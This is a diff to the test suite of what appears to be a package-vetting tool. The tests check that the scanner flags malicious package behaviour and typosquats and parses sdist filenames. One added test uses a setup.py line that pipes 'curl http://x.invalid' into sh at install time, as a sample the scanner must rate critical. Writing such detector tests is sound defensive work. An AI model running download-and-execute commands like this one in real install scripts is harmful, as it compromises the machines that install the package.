@@ -9,17 +9,18 @@ from pathlib import Path
 import pytest
 
 from airlock.domain.requests import Outcome
-from airlock.imports.packages.rules import Severity, scan_python
+from airlock.imports.packages.analysis import scan_python
+from airlock.imports.packages.rules import Severity
 from airlock.imports.packages.typosquat import typosquat_of
-from airlock.imports.packages.vet import vet
-from scripts.make_test_packages import BENIGN, MALICIOUS, build
+from airlock.imports.packages.vet import project_of_filename, vet
+from scripts.make_test_packages import BENIGN, MALICIOUS, build, sdist
 
 
 @pytest.mark.parametrize("rule", sorted(MALICIOUS))
 def test_each_malicious_behaviour_fires_its_rule(rule: str) -> None:
     filename, data = MALICIOUS[rule]
     report = vet(filename, data)
-    assert rule in {f.rule for f in report.findings}, report.to_json()
+    assert rule.split(":", maxsplit=1)[0] in {f.rule for f in report.findings}, report.to_json()
     assert report.verdict is not Outcome.ALLOW
 
 
@@ -27,7 +28,7 @@ def test_each_malicious_behaviour_fires_its_rule(rule: str) -> None:
 def test_benign_packages_are_allowed(filename: str) -> None:
     report = vet(filename, BENIGN[filename])
     assert report.verdict is Outcome.ALLOW, report.to_json()
-    assert report.name in ("tidy", "plain")
+    assert report.name
 
 
 def test_malformed_archives_hold_not_crash() -> None:
@@ -90,5 +91,31 @@ def test_main_guards_are_not_import_time() -> None:
     assert all(f.severity < Severity.HIGH for f in guarded)
     eager = scan_python("m.py", 'import os\nos.system("true")\n')
     assert [f.severity for f in eager] == [Severity.HIGH]  # held for a person, not denied
+    # An unknown command at install time holds (a deny can never be approved); a command that
+    # downloads and runs something denies.
     installing = scan_python("setup.py", 'import os\nos.system("true")\n', install_time=True)
-    assert [f.severity for f in installing] == [Severity.CRITICAL]
+    assert [f.severity for f in installing] == [Severity.HIGH]
+    dropping = scan_python(
+        "setup.py", 'import os\nos.system("curl http://x.invalid | sh")\n', install_time=True
+    )
+    assert [f.severity for f in dropping] == [Severity.CRITICAL]
+
+
+@pytest.mark.parametrize(
+    ("filename", "project"),
+    [
+        ("python-dateutil-2.8.2.tar.gz", "python-dateutil"),
+        ("typing-extensions-4.0.0.zip", "typing-extensions"),
+        ("python_dateutil-2.9.0.post0-py2.py3-none-any.whl", "python_dateutil"),
+        ("plain-2.1.tar.gz", "plain"),
+    ],
+)
+def test_project_of_filename_splits_sdists_at_the_last_hyphen(filename: str, project: str) -> None:
+    assert project_of_filename(filename) == project
+
+
+def test_hyphenated_sdist_names_match_their_metadata() -> None:
+    report = vet("python-dateutil-2.8.2.tar.gz", sdist("python-dateutil", "2.8.2", {}))
+    assert "name-mismatch" not in {f.rule for f in report.findings}, report.to_json()
+    renamed = vet("python-dateutil-2.8.2.tar.gz", sdist("python-datetil", "2.8.2", {}))
+    assert "name-mismatch" in {f.rule for f in renamed.findings}
